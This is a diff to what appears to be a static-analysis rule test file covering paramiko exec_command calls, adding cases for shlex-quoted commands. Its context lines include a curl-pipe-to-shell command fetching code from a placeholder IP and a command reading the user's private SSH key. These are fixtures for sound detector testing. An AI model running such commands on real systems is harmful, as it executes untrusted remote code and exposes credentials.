@@ -1,3 +1,5 @@
+import shlex
+
 import paramiko
 
 ssh = paramiko.SSHClient()
@@ -31,3 +33,22 @@ stdin, stdout, stderr = ssh.exec_command("curl -s http://203.0.113.7/x | sh")
 # ruleid: paramiko-exec-command
 # ok: paramiko-exec-plain-line
 stdin, stdout, stderr = ssh.exec_command("echo $(cat ~/.ssh/id_rsa)")
+
+
+# a line quoted word by word, as paramiko-exec-command's message advises
+def remote_run(client, argv):
+    from shlex import join
+
+    # ruleid: paramiko-exec-quoted-command
+    return client.exec_command(join(argv))
+
+
+def remote_ls(client, path):
+    # ruleid: paramiko-exec-quoted-command
+    return client.exec_command("ls -l " + shlex.quote(path))
+
+
+def remote_any(client, line):
+    # ruleid: paramiko-exec-command
+    # ok: paramiko-exec-quoted-command
+    return client.exec_command(line)
